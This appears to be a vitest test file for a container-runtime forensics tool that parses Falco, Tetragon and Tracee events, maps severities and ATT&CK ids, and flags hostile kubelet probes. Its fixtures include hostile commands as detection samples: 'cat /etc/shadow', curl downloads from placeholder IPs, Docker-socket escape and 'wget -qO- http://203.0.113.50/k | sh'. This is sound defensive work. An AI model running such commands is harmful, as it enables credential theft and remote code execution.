import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { analyze } from '../src/analyze.js';
import { loadRules } from '../src/engine/load-rules.js';
import { toFindings } from '../src/engine/run-rules.js';
import type { Rule } from '../src/engine/rule.js';
import { attackFromTags, classifyActivity, falcoSeverity, normaliseHook, traceeSeverity, traceeSeverityLevel } from '../src/ingest/runtime/classify.js';
import { expand } from '../src/ingest/runtime/falco-ruleset.js';
import { commandLine, isoMicros, normaliseContainerId, unwrapLine } from '../src/ingest/runtime/normalise.js';
import { FIXTURES_DIR } from './support/rule-cases.js';

const RUNTIME = join(FIXTURES_DIR, 'runtime');
const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** Lays files out as a directory input and returns the loaded case database (no rules run). */
async function load(files: Record<string, string | Buffer>) {
  const dir = mkdtempSync(join(tmpdir(), 'cf-runtime-'));
  dirs.push(dir);
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  const result = await analyze([dir], { write: false, rules: [], keepDb: true });
  return result.db!.sql; // in memory: freed with the test process
}

const fixture = (name: string) => readFileSync(join(RUNTIME, name));

describe('line wrappers and normalisation', () => {
  it('unwraps journald short-iso, syslog and kubectl --timestamps lines', () => {
    expect(unwrapLine('2025-03-14T09:41:07+0000 worker-2 falco[20731]: {"rule":"x"}')).toEqual({
      body: '{"rule":"x"}',
      format: 'journald',
      wrapperTime: '2025-03-14T09:41:07.000000Z',
      ident: 'falco',
    });
    expect(unwrapLine('2025-03-14T11:41:07.5+02:00 worker-2 falco[1]: started')).toMatchObject({ format: 'journald', wrapperTime: '2025-03-14T09:41:07.500000Z', body: 'started' });
    expect(unwrapLine('Mar 14 09:41:07 worker-2 falco: {"a":1}')).toMatchObject({ format: 'syslog', body: '{"a":1}', ident: 'falco', wrapperTime: null });
    expect(unwrapLine('2025-03-14T09:41:07.118245093Z {"a":"b c: d"}')).toMatchObject({ format: 'kubectl-timestamps', body: '{"a":"b c: d"}' });
    expect(unwrapLine('-- No entries --')).toBeNull();
    expect(unwrapLine('')).toBeNull();
  });

  it('keeps microseconds and converts offsets and epoch units to UTC', () => {
    expect(isoMicros('2023-10-06T22:03:57.700326678Z')).toBe('2023-10-06T22:03:57.700326Z');
    expect(isoMicros('2024-05-07T18:54:19+0200')).toBe('2024-05-07T16:54:19.000000Z');
    expect(isoMicros(1715108059341081180)).toBe('2024-05-07T18:54:19.341081Z');
    expect(isoMicros(1715108059.5)).toBe('2024-05-07T18:54:19.500000Z');
    expect(isoMicros(1715108059341)).toBe('2024-05-07T18:54:19.341000Z');
    expect(isoMicros('not a time')).toBeNull();
  });

  it('normalises container ids from every tool', () => {
    const full = '551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3';
    expect(normaliseContainerId(`containerd://${full}`)).toBe(full);
    expect(normaliseContainerId(`docker://${full.toUpperCase()}`)).toBe(full);
    expect(normaliseContainerId('cri-o://' + full)).toBe(full);
    expect(normaliseContainerId(full.slice(0, 31))).toBe(full.slice(0, 12)); // Tetragon's `docker` field
    expect(normaliseContainerId('9656db3bb358')).toBe('9656db3bb358'); // Falco's container.id
    expect(normaliseContainerId('host')).toBeNull();
    expect(normaliseContainerId('')).toBeNull();
  });

  it('writes each command line once, whether or not the tool puts the program in its arguments', () => {
    expect(commandLine('bash', 'bash -c id')).toBe('bash -c id'); // Falco proc.name + proc.cmdline
    expect(commandLine('/usr/bin/cat', 'cat /etc/shadow')).toBe('cat /etc/shadow'); // Tracee pathname + argv
    expect(commandLine('/usr/bin/curl', '-s http://203.0.113.9/x')).toBe('/usr/bin/curl -s http://203.0.113.9/x'); // Tetragon binary + arguments
    expect(commandLine('sh', 'shell.sh')).toBe('sh shell.sh');
    expect(commandLine(null, 'id')).toBe('id');
    expect(commandLine('id', null)).toBe('id');
  });
});

describe('severity mapping and indicators', () => {
  it('maps Falco priorities and Tracee signature severities', () => {
    expect(['Emergency', 'Alert', 'Critical', 'Error', 'Warning', 'Notice', 'Informational', 'Debug'].map(falcoSeverity)).toEqual([
      'MALICIOUS', 'MALICIOUS', 'MALICIOUS', 'SUSPICIOUS', 'SUSPICIOUS', 'INFO', 'INFO', 'INFO',
    ]);
    expect(falcoSeverity('CRITICAL')).toBe('MALICIOUS');
    expect([0, 1, 2, 3, 4].map((n) => traceeSeverity(n))).toEqual(['INFO', 'SUSPICIOUS', 'SUSPICIOUS', 'MALICIOUS', 'MALICIOUS']);
    expect(traceeSeverityLevel('HIGH')).toBe(3);
    expect(traceeSeverityLevel('2')).toBe(2);
  });

  it('reads ATT&CK ids from Falco tags', () => {
    expect(attackFromTags(['maturity_stable', 'container', 'mitre_execution', 'T1059', 't1059.004', 'TA0003', 'PCI_DSS_11.5.1'])).toEqual(['TA0002', 'T1059', 'T1059.004', 'TA0003']);
  });

  it('classifies the activity that matters and nothing else', () => {
    const exec = (process: string, args = '') => classifyActivity({ process, arguments: args, filePath: null, hook: null, isExec: true })?.indicator;
    expect(exec('/bin/bash')).toBe('shell');
    expect(exec('/bin/busybox', 'sh -c id')).toBe('shell');
    expect(exec('/usr/bin/curl', '-sSLo /tmp/x http://203.0.113.5/x')).toBe('network-tool');
    expect(exec('/tmp/docker', '-H unix:///var/run/docker.sock ps')).toBe('escape-tool');
    expect(exec('/bin/cat', '/etc/shadow')).toBe('sensitive-file');
    expect(exec('/usr/sbin/nginx', '-g daemon off;')).toBeUndefined();
    expect(classifyActivity({ process: '/usr/bin/python3', arguments: null, filePath: '/var/run/secrets/kubernetes.io/serviceaccount/token', hook: 'security_file_permission', isExec: false })?.indicator).toBe('sensitive-file');
    expect(classifyActivity({ process: '/usr/bin/nsenter', arguments: null, filePath: null, hook: '__x64_sys_setns', isExec: false })?.indicator).toBe('sensitive-syscall');
    expect(classifyActivity({ process: null, arguments: null, filePath: null, hook: 'hooked_syscall', isExec: false })).toMatchObject({ indicator: 'kernel-integrity', anywhere: true });
    // a shell's exit or a library open is not an indicator
    expect(classifyActivity({ process: '/bin/bash', arguments: null, filePath: '/usr/lib/x86_64-linux-gnu/libc.so.6', hook: 'security_file_open', isExec: false })).toBeNull();
    expect(normaliseHook('syscalls/sys_enter_setns')).toBe('setns');
    expect(normaliseHook('__arm64_sys_mount')).toBe('mount');
  });
});

describe('ingest', () => {
  it('recognises each tool by content, whatever the file is called', async () => {
    const db = await load({
      'a.txt': fixture('falco-alerts.jsonl'),
      'b.log': fixture('falco-journal.txt'),
      'c.out': fixture('tetragon-events.jsonl'),
      'd.out': fixture('tracee-legacy.jsonl'),
      'e.out': fixture('tracee-v1beta1.jsonl'),
      'f.yml': fixture('falco_rules.yaml'),
      'g.txt': fixture('falco-list.txt'),
      'h.json': fixture('falco-list.json'),
      'i.json': fixture('tetragon-tracingpolicies.json'),
      'ebpf/tracee/journal.txt': '-- No entries --\n',
      'j1.txt': '2025-03-14T09:30:02+0000 worker-2 systemd[1]: Started Falco.\n2025-03-14T09:30:02+0000 worker-2 falco[20731]: Falco version: 0.38.1 (x86_64)\n',
      'j2.txt': '2025-03-14T09:30:05+0000 worker-2 tracee[811]: {"level":"info","ts":1741944605.1,"msg":"Tracee is ready callback"}\n',
    });
    const kinds = Object.fromEntries((db.prepare('select path, kind from files').all() as { path: string; kind: string }[]).map((r) => [r.path, r.kind]));
    expect(kinds).toEqual({
      'a.txt': 'falco-alerts',
      'b.log': 'falco-alerts',
      'c.out': 'tetragon-events',
      'd.out': 'tracee-events',
      'e.out': 'tracee-events',
      'f.yml': 'falco-rules',
      'g.txt': 'falco-rules',
      'h.json': 'falco-rules',
      'i.json': 'tetragon-policies',
      'ebpf/tracee/journal.txt': 'unknown',
      'j1.txt': 'falco-alerts', // the service's own lines: Falco ran, raised nothing
      'j2.txt': 'tracee-events',
    });
    const sources = db.prepare('select f.path, r.tool, r.formats, r.schema, r.events, r.tool_log_lines, r.unparsable from runtime_sources r join files f on f.id = r.file_id order by f.path').all();
    expect(sources).toEqual([
      { path: 'a.txt', tool: 'falco', formats: 'json', schema: null, events: 6, tool_log_lines: 1, unparsable: 0 },
      { path: 'b.log', tool: 'falco', formats: 'journald', schema: null, events: 6, tool_log_lines: 7, unparsable: 0 },
      { path: 'c.out', tool: 'tetragon', formats: 'json', schema: null, events: 11, tool_log_lines: 0, unparsable: 0 },
      { path: 'd.out', tool: 'tracee', formats: 'json', schema: 'legacy', events: 5, tool_log_lines: 0, unparsable: 0 },
      { path: 'e.out', tool: 'tracee', formats: 'json', schema: 'v1beta1', events: 3, tool_log_lines: 1, unparsable: 0 },
      { path: 'j1.txt', tool: 'falco', formats: 'journald', schema: null, events: 0, tool_log_lines: 1, unparsable: 0 },
      { path: 'j2.txt', tool: 'tracee', formats: 'journald', schema: null, events: 0, tool_log_lines: 1, unparsable: 0 },
    ]);
    expect(db.prepare("select count(*) as n from falco_rules where item = 'rule'").get()).toEqual({ n: 3 + 5 + 8 });
    expect(db.prepare('select name, hooks, actions from tetragon_policies where name = ?').get('block-etc-writes')).toEqual({
      name: 'block-etc-writes',
      hooks: '["kprobe:security_file_permission"]',
      actions: '["Sigkill"]',
    });
  });

  it('fills the runtime_events columns the timeline reads, per tool', async () => {
    const db = await load({ 'falco.jsonl': fixture('falco-alerts.jsonl'), 'tetragon.jsonl': fixture('tetragon-events.jsonl'), 'tracee.jsonl': fixture('tracee-v1beta1.jsonl') });
    const row = (tool: string, where: string) =>
      db.prepare(`select time, tool, event_type, priority, severity, process, parent, arguments, container_id, container_name, pod, namespace, node, attack, locator from runtime_events where tool = ? and ${where}`).get(tool);
    expect(row('falco', "event_type = 'Read sensitive file untrusted'")).toEqual({
      time: '2025-03-14T09:41:31.502937Z',
      tool: 'falco',
      event_type: 'Read sensitive file untrusted',
      priority: 'Warning',
      severity: 'SUSPICIOUS',
      process: '/bin/cat',
      parent: 'bash',
      arguments: 'cat /etc/shadow',
      container_id: '3f8a1c2e9b7d',
      container_name: 'api',
      pod: 'api-7d9c6b5f4-x2lqp',
      namespace: 'payments',
      node: 'worker-2',
      attack: '["T1555","TA0006"]',
      locator: 'line 2',
    });
    expect(row('tetragon', "process = '/usr/bin/curl'")).toMatchObject({
      event_type: 'process_exec',
      severity: 'SUSPICIOUS',
      parent: '/bin/bash',
      container_id: '3f8a1c2e9b7d5a4c8e6f1b2d3a4c5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d',
      container_name: 'api',
      pod: 'api-7d9c6b5f4-x2lqp',
      namespace: 'payments',
      node: 'worker-2',
      attack: '["T1105"]',
    });
    expect(row('tracee', "event_type = 'Docker socket abuse detected'")).toMatchObject({
      time: '2025-03-14T09:49:10.231774Z',
      priority: '2',
      severity: 'SUSPICIOUS',
      process: '/usr/local/bin/docker',
      parent: '/bin/sh',
      pod: 'ci-runner-6b7c9d8f5-q4wz2',
      namespace: 'ci',
      attack: '["T1068"]',
    });
    // Metrics snapshots and Tracee's own logs are activity, not events.
    expect(db.prepare("select count(*) as n from runtime_events where event_type like 'Falco internal%'").get()).toEqual({ n: 0 });
  });

  it('ties Falco 12-hex and Tetragon 31-hex ids to the real container (view runtime_event_containers)', async () => {
    const db = await load({
      'docker-inspect.json': fixture('docker-inspect.json'),
      'falco.jsonl': fixture('falco-alerts-socket.jsonl'),
      'tetragon.jsonl': fixture('tetragon-docker.jsonl'),
    });
    const full = (JSON.parse(fixture('docker-inspect.json').toString()) as { Id: string; Name: string }[]).find((c) => c.Name === '/cf-runtime-socket')!.Id;
    const resolved = db
      .prepare('select e.tool, e.container_id, r.full_container_id, r.container_name from runtime_events e join runtime_event_containers r on r.event_id = e.id order by e.id')
      .all() as { tool: string; container_id: string; full_container_id: string; container_name: string }[];
    expect(resolved).toHaveLength(4);
    for (const r of resolved) {
      expect(r.container_id).toBe(full.slice(0, 12));
      expect(r).toMatchObject({ full_container_id: full, container_name: 'cf-runtime-socket' });
    }
    expect(db.prepare("select distinct subject_kind, subject_name, subject_id from runtime_event_subjects").all()).toEqual([
      { subject_kind: 'container', subject_name: 'cf-runtime-socket', subject_id: full },
    ]);
  });

  it('reports bad lines once per file and keeps the rest', async () => {
    const lines = fixture('tetragon-events.jsonl').toString().split('\n');
    const damaged = [lines[0], lines[1]!.slice(0, 200), '{"process_exec":{"process":{"pid":"not a number"}},"node_name":"n","time":"2025-03-14T00:00:00Z"}', ...lines.slice(2)].join('\n');
    const db = await load({ 'tetragon.jsonl': damaged, 'falco.log': '2025-03-14T09:41:07+0000 worker-2 falco[1]: 09:41:07.118245093: Notice A shell was spawned (user=root)\n' + fixture('falco-alerts.jsonl').toString() });
    expect(db.prepare("select count(*) as n from runtime_events where tool = 'tetragon'").get()).toEqual({ n: 10 });
    const problems = db.prepare('select problem, detail, locator, count from input_problems order by id').all();
    expect(problems).toEqual([
      { problem: 'schema', detail: 'falco-alerts: Falco alert line(s) in text form (json_output disabled): not parsed, read them in the file', locator: 'line 1', count: 1 },
      { problem: 'parse-error', detail: 'tetragon-events: line(s) starting with `{` that are not valid JSON (cut or corrupted) skipped', locator: 'line 2', count: 1 },
      { problem: 'schema', detail: 'tetragon-events: Tetragon event(s) with unexpected field types: process_exec.process.pid', locator: 'line 3', count: 1 },
    ]);
    expect(db.prepare("select count(*) as n from runtime_events where tool = 'falco'").get()).toEqual({ n: 6 });
  });

  it('merges Falco rules files in load order: local overrides and appends', async () => {
    const db = await load({
      'falco/falco_rules.yaml': fixture('falco_rules.yaml'),
      'falco/falco-incubating_rules.yaml': fixture('falco-incubating_rules.yaml'),
      'falco/falco_rules.local.yaml': fixture('falco_rules.local.yaml'),
      'falco/rules.d/zz.yaml': '- macro: container\n  condition: (container.id != host and container.name exists)\n- rule: Write below root\n  condition: and not proc.name = backup\n  override:\n    condition: append\n',
    });
    const { effectiveFalcoRules } = await import('../src/ingest/runtime/falco-ruleset.js');
    const [set] = effectiveFalcoRules(db);
    const byName = new Map(set!.rules.map((r) => [r.name, r]));
    expect(byName.get('Launch Privileged Container')).toMatchObject({ enabled: false, disabledAt: { locator: 'line 2' } });
    expect(byName.get('Terminal shell in container')!.enabled).toBe(true);
    expect(byName.get('Write below root')!.condition).toBe('open_write and root_dir and proc_name_exists and not proc.name = backup');
    // macros expand recursively, lists become their items; a later macro definition wins
    expect(byName.get('Terminal shell in container')!.expanded).toContain('proc.name in (ash, bash, csh, ksh, sh, tcsh, zsh, dash)');
    expect(byName.get('Terminal shell in container')!.expanded).toContain('(container.id != host and container.name exists)');
    expect(expand('a and b', new Map([['a', 'b or c'], ['b', 'x in (l)']]), new Map([['l', ['1', '2']]]), 0)).toBe('((x in (1, 2)) or c) and (x in (1, 2))');
  });
});

describe('kubelet execs', () => {
  it("matches Tetragon execs to the pod's exec probes by pod, container and command line, and says how many it left out", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cf-runtime-'));
    dirs.push(dir);
    for (const name of ['tetragon-probes.jsonl', 'tetragon-probe-abuse.jsonl', 'probe-pods.json']) writeFileSync(join(dir, name), fixture(name));
    const result = await analyze([dir], { write: false, rules: [], keepDb: true });
    const db = result.db!.sql;
    const execs = db.prepare('select purpose, program, arguments, hostile_patterns is not null as hostile from k8s_container_execs order by purpose, arguments').all();
    expect(execs).toEqual([
      { purpose: 'livenessProbe', program: 'sh', arguments: '-c pg_isready -U postgres -h 127.0.0.1 -p 5432', hostile: 0 },
      { purpose: 'livenessProbe', program: 'sh', arguments: '-c wget -qO- http://203.0.113.50/k | sh', hostile: 1 },
      { purpose: 'readinessProbe', program: 'sh', arguments: '-c pg_isready -U postgres -h 127.0.0.1 -p 5432', hostile: 0 },
    ]);
    const matched = db
      .prepare('select distinct e.locator, e.pod, k.hostile_patterns is not null as hostile from runtime_kubelet_execs k join runtime_events e on e.id = k.event_id join files f on f.id = e.file_id order by f.path, e.locator')
      .all();
    expect(matched).toEqual([
      { locator: 'line 2', pod: 'cache-5c8d7f9b6-qz4kt', hostile: 1 },
      { locator: 'line 1', pod: 'db-0', hostile: 0 },
      { locator: 'line 2', pod: 'db-0', hostile: 0 },
    ]);
    const appendix = result.markdown.slice(result.markdown.indexOf('## Runtime events'));
    expect(appendix).toMatch(/\| tetragon \| tetragon-probes\.jsonl \| 2 \| [^|]+ \| 2 \| 2 \| 0 \|/);
    expect(appendix).toMatch(/\| tetragon \| tetragon-probe-abuse\.jsonl \| 2 \| [^|]+ \| 2 \| 0 \| 0 \|/);
  });
});

describe('rules across several inputs', () => {
  it('reports the bundle without eBPF evidence, not the one with it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cf-runtime-'));
    dirs.push(dir);
    writeFileSync(join(dir, 'meta.env'), 'CF_BUNDLE_FORMAT=1\nHOST=node-2\n');
    const rules = (await loadRules()).filter((r) => r.meta.id === 'runtime.no-ebpf-monitoring');
    const result = await analyze([join(FIXTURES_DIR, '..', '..', 'sample-bundles', 'runtime-falco-socket.tgz'), dir], { write: false, rules });
    expect(result.document.findings.map((f) => f.subject.host)).toEqual(['node-2']);
    expect(result.document.findings[0]!.reasons[0]).toBe(`no Falco, Tetragon or Tracee events in ${dir} for the collected evidence (no incident window set)`);
  });
});

describe('engine: ATT&CK from finding rows', () => {
  it('adds well-formed technique ids from rows to the rule\'s own, merged per finding', () => {
    const rule = { meta: { id: 'runtime.x', title: 't', severity: 'INFO', group: 'runtime', attack: ['T1609'], description: 'd'.repeat(20), remediation: 'r'.repeat(10) }, source: { kind: 'ts', file: 'x' }, run: () => [] } as Rule;
    const files = new Map([[1, { path: 'p', sha256: null, input: 'i' }]]);
    const [f] = toFindings(
      rule,
      [
        { subject_kind: 'host', subject_name: 'h', reason: 'a', file_id: 1, locator: 'line 1', attack: ['T1059', 'TA0002', 'bogus'] },
        { subject_kind: 'host', subject_name: 'h', reason: 'b', file_id: 1, locator: 'line 2', attack: '["T1611","T1059"]' },
      ],
      files,
    );
    expect(f!.attack).toEqual(['T1609', 'T1059', 'T1611']);
  });
});
